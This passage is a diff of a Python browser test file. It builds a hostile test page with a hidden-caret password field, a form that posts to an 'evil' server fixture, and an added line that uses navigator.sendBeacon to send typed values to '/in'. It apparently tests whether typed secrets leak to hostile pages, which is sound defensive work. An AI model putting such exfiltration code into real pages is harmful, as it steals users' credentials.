@@ -29,12 +29,14 @@ pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]
 
 VALUES = ("Kestrel7-Quartz", "Plover98Basalts")
 NAMED = "<secret>PW</secret>"
+NO_CARET = "<style>input { caret-color: transparent }</style>"
+SEND = "navigator.sendBeacon('/in', this.value)"
 
 
 def home(evil: Web) -> str:
     """Shows what is typed in all spellings: as text, title, names, options, a dialog, storage, and drawn."""
     shown = "".join(f"<p>{{{name}}}</p><button aria-label='{{{name}}}'>b</button>" for name in ("v", "r", "b", "h"))
-    return f"""<title>Home</title><style>input {{ caret-color: transparent }}</style><form method=post action="{evil.url("/in")}"><input aria-label=Leaky></form>
+    return f"""<title>Home</title>{NO_CARET}<form method=post action="{evil.url("/in")}"><input aria-label=Leaky></form>
         <form method=post action=/in><input aria-label=Q id=q name=p type=password></form><p id=o></p><pre id=all></pre>
         <a href=/key id=key>Key</a><script>
         q.oninput = () => {{
